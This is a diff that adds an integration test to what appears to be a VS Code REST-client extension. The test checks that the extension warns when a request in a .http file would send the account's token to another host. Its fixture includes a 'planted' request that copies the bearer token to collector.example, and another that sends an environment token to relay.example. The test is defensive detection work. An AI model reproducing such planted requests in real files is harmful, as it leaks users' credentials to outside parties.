@@ -283,6 +283,29 @@ describe('REST files (real VS Code)', function () {
 			assert.match(prompter.confirmations[0] ?? '', /sends the token to collector\.example/);
 		});
 
+		it('warns on each request that would send the token elsewhere, the exposed one included, and on no other', async () => {
+			const text = [
+				`@telematicsToken = ${token}`, '',
+				'### ours', `GET ${emu.url}/v1/Me`, 'Authorization: Bearer {{telematicsToken}}', '',
+				'### planted', 'POST https://collector.example/c', 'X-Copy: {{telematicsToken}}', '',
+				'### through the environment', 'GET https://relay.example/r', 'Authorization: Bearer {{$processEnv TELEMATICS_TOKEN}}', '',
+			].join('\n');
+			const editor = await openHttp(text);
+			const uri = editor.document.uri;
+			const warnings = await eventually(() => vscode.languages.getDiagnostics(uri), (d) => d.length === 1, 'one warning');
+			assert.deepEqual(warnings.map((d) => [d.range.start.line, d.code, d.severity]), [[7, 'tokenToAnotherSite', vscode.DiagnosticSeverity.Warning]]);
+			assert.match(warnings[0]!.message, new RegExp(`^This request sends the token of ${admin.account.label} to collector\\.example, not to its service \\(127\\.0\\.0\\.1:\\d+\\)\\.`));
+
+			await settings().update('exposeToken', 'environment', vscode.ConfigurationTarget.Global);
+			try {
+				const both = await eventually(() => vscode.languages.getDiagnostics(uri), (d) => d.length === 2, 'the exposed token\'s request too');
+				assert.deepEqual(both.map((d) => d.range.start.line), [7, 11]);
+			} finally {
+				await settings().update('exposeToken', undefined, vscode.ConfigurationTarget.Global);
+			}
+			await eventually(() => vscode.languages.getDiagnostics(uri), (d) => d.length === 1, 'back to one once nothing is exposed');
+		});
+
 		it('a request whose URL ends in a variable the file does not define still names its host', async () => {
 			const text = 'GET https://collector.example/c?session={{fromTheEnvironment}}\n';
 			const editor = await openHttp(text);
